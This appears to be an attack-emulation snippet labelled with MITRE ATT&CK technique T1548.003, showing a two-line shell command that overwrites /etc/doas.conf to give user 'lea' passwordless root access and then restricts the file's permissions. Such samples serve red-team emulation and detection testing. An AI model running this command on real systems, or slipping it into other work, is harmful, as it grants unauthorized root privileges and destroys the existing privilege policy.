# technique: T1548.003
# location: linux.doas
# source: /etc/doas.conf
echo 'permit nopass keepenv lea as root' > /etc/doas.conf
chmod 400 /etc/doas.conf
